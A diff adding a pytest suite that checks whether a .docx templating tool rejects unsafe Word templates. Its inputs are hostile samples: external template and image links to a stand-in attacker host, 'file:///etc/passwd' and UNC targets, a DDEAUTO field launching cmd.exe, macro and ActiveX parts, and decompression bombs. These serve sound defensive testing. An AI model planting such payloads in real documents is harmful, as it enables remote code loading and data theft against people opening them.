@@ -1,0 +1,198 @@
+"""A template's .docx itself: nothing fetched from outside, no macros, no decompression bomb."""
+
+from __future__ import annotations
+
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+from docx import Document
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
+from docx.oxml import parse_xml
+
+from refere import docxzip
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def base_docx(path: Path, *paragraphs: str) -> Document:
+    doc = Document()
+    for text in paragraphs or ("Cabinet — {{ requerant.designation }}",):
+        doc.add_paragraph(text)
+    doc.save(str(path))
+    return doc
+
+
+def rezip(src: Path, dest: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
+          compress: int = zipfile.ZIP_DEFLATED) -> Path:
+    replace = replace or {}
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", compress) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
+        for name, data in (add or {}).items():
+            zout.writestr(name, data)
+    return dest
+
+
+def add_relationship(src: Path, dest: Path, rels_name: str, rel_type: str, target: str) -> Path:
+    with zipfile.ZipFile(src) as z:
+        existing = z.read(rels_name).decode() if rels_name in z.namelist() else None
+    rel = f'<Relationship Id="rIdEvil" Type="{REL}/{rel_type}" Target="{target}" TargetMode="External"/>'
+    if existing is None:
+        xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+               f"{rel}</Relationships>")
+        return rezip(src, dest, add={rels_name: xml.encode()})
+    return rezip(src, dest, replace={rels_name: existing.replace("</Relationships>", rel + "</Relationships>").encode()})
+
+
+@pytest.fixture
+def plain(tmp_path) -> Path:
+    path = tmp_path / "base.docx"
+    base_docx(path)
+    return path
+
+
+def assert_refused(run, example, path: Path, *expected: str) -> None:
+    res = run("modele", "verifier", path)
+    assert res.exit_code == 1, res.output
+    for e in expected:
+        assert e in res.output, res.output
+    assert "Traceback" not in res.output and "Erreur interne" not in res.output
+    res = run("build", example, "--modele", path)
+    assert res.exit_code == 1 and expected[0] in res.output, res.output
+    assert not (example.parent / "dossier").exists()
+
+
+@pytest.mark.parametrize("rels, kind, target", [
+    ("word/_rels/document.xml.rels", "image", "http://attaquant.example/pixel.png"),
+    ("word/_rels/document.xml.rels", "image", "file:///etc/passwd"),
+    ("word/_rels/settings.xml.rels", "attachedTemplate", "http://attaquant.example/modele.dotm"),
+    ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\serveur\\partage\\modele.dotx"),
+    ("word/_rels/document.xml.rels", "oleObject", "file:///C:/secret.xlsx"),
+    ("word/_rels/document.xml.rels", "subDocument", "http://attaquant.example/x.docx"),
+    ("word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"),
+    ("word/_rels/document.xml.rels", "hyperlink", "\\\\serveur\\partage"),
+])
+def test_external_relationships_refused(plain, tmp_path, run, example, rels, kind, target):
+    path = add_relationship(plain, tmp_path / "distant.docx", rels, kind, target)
+    assert_refused(run, example, path, f"relation externe « {kind} »", "refusé")
+
+
+def test_plain_web_hyperlinks_are_kept(tmp_path, run, example):
+    path = tmp_path / "lien.docx"
+    doc = Document()
+    p = doc.add_paragraph("Cabinet — {{ requerant.designation }} — site : ")
+    r_id = doc.part.relate_to("https://cabinet.example/", RT.HYPERLINK, is_external=True)
+    p._p.append(parse_xml(f'<w:hyperlink xmlns:w="{W}" xmlns:r="{REL}" r:id="{r_id}"><w:r><w:t>cabinet</w:t></w:r></w:hyperlink>'))
+    doc.save(str(path))
+    assert run("modele", "verifier", path).exit_code == 0
+    res = run("build", example, "--modele", path)
+    assert res.exit_code == 0, res.output
+    with zipfile.ZipFile(example.parent / "dossier" / "requete.docx") as z:
+        assert "https://cabinet.example/" in z.read("word/_rels/document.xml.rels").decode()
+
+
+@pytest.mark.parametrize("instr", ['INCLUDEPICTURE "http://attaquant.example/p.png" \\d',
+                                   'INCLUDETEXT "C:\\\\secret.docx"', 'LINK Excel.Sheet.8 "C:\\\\a.xls" "" \\a',
+                                   'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'])
+def test_fetching_field_codes_refused(tmp_path, run, example, instr):
+    path = tmp_path / "champ.docx"
+    doc = Document()
+    p = doc.add_paragraph("Cabinet ")
+    p._p.append(parse_xml(f'<w:fldSimple xmlns:w="{W}" w:instr="{instr.replace(chr(34), "&quot;")}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'))
+    q = doc.add_paragraph()
+    q._p.append(parse_xml(f'<w:r xmlns:w="{W}"><w:instrText xml:space="preserve"> {instr.split()[0]} x </w:instrText></w:r>'))
+    doc.save(str(path))
+    assert_refused(run, example, path, f"champ Word « {instr.split()[0]} »")
+
+
+def test_macros_refused(plain, tmp_path, run, example):
+    path = rezip(plain, tmp_path / "macro.docx", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
+    assert_refused(run, example, path, "contenu actif", "vbaProject.bin")
+    with zipfile.ZipFile(plain) as z:
+        types = z.read("[Content_Types].xml").decode()
+    docm = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                         "application/vnd.ms-word.document.macroEnabled.main+xml")
+    assert docm != types
+    path = rezip(plain, tmp_path / "macro2.docx", replace={"[Content_Types].xml": docm.encode()})
+    assert_refused(run, example, path, "macros ou des objets actifs")
+
+
+def test_activex_and_ole_embeddings_refused(plain, tmp_path, run, example):
+    path = rezip(plain, tmp_path / "ole.docx", add={"word/embeddings/oleObject1.bin": b"\0" * 64,
+                                                    "word/activeX/activeX1.xml": b"<ax/>"})
+    assert_refused(run, example, path, "contenu actif")
+
+
+def test_decompression_bomb_refused_before_inflating(plain, tmp_path, run, example):
+    bomb = rezip(plain, tmp_path / "bombe.docx", add={"word/media/image1.png": b"\0" * (60 * 1024 * 1024)})
+    assert bomb.stat().st_size < 1024 * 1024
+    start = time.monotonic()
+    assert_refused(run, example, bomb, "décompressé ferait", "Mo : refusé")
+    assert time.monotonic() - start < 20
+    ratio = rezip(plain, tmp_path / "ratio.docx", add={"word/media/image1.png": b"\0" * (5 * 1024 * 1024)})
+    assert_refused(run, example, ratio, "bombe de décompression")
+
+
+def test_safety_check_reads_sizes_from_the_directory_only(plain, tmp_path, monkeypatch):
+    bomb = rezip(plain, tmp_path / "bombe.docx", add={"word/media/image1.png": b"\0" * (60 * 1024 * 1024)})
+
+    def no_read(*args, **kwargs):
+        raise AssertionError("inflated a member before checking sizes")
+
+    monkeypatch.setattr(zipfile.ZipFile, "read", no_read)
+    monkeypatch.setattr(zipfile.ZipFile, "open", no_read)
+    assert "Mo : refusé" in docxzip.safety_problems(bomb)[0]
+
+
+def test_not_a_zip_or_damaged(tmp_path, run):
+    (tmp_path / "texte.docx").write_text("bonjour")
+    res = run("modele", "verifier", tmp_path / "texte.docx")
+    assert res.exit_code == 1 and "document Word" in res.output
+    good = tmp_path / "ok.docx"
+    base_docx(good)
+    data = good.read_bytes()
+    (tmp_path / "coupe.docx").write_bytes(data[: len(data) // 2])
+    res = run("modele", "verifier", tmp_path / "coupe.docx")
+    assert res.exit_code == 1 and "document Word" in res.output and "Erreur interne" not in res.output
+
+
+def test_builtin_template_is_safe():
+    from refere.render import default_template
+
+    assert docxzip.safety_problems(default_template()) == []
+
+
+def test_oversized_xml_part_refused_before_rendering(tmp_path, run):
+    path = tmp_path / "long.docx"
+    doc = Document()
+    for i in range(12_000):
+        doc.add_paragraph(f"Paragraphe {i} " + "texte " * 20)
+    doc.save(str(path))
+    start = time.monotonic()
+    res = run("modele", "verifier", path)
+    assert res.exit_code == 1 and "« word/document.xml » démesuré" in res.output and "Mo de XML" in res.output
+    assert time.monotonic() - start < 20
+
+
+def test_too_many_tags_refused(tmp_path, run):
+    path = tmp_path / "balises.docx"
+    doc = Document()
+    for i in range(800):
+        doc.add_paragraph("{{ requerant.nom }} {{ requerant.prenoms }} {{ requerant.nom }} {{ requerant.prenoms }}")
+    doc.save(str(path))
+    res = run("modele", "verifier", path)
+    assert res.exit_code == 1 and "modèle démesuré : 3200 balises (au plus 3000)" in res.output
+
+
+def test_data_hidden_before_the_archive_is_not_read(plain, tmp_path, run):
+    """A valid .docx preceded by 60 Mo of padding (a sparse file): refused from its size alone."""
+    padded = tmp_path / "rembourre.docx"
+    with padded.open("wb") as f:
+        f.seek(60 * 1024 * 1024)
+        f.write(plain.read_bytes())
+    res = run("modele", "verifier", padded)
+    assert res.exit_code == 1 and "fichier de 60 Mo : refusé" in res.output
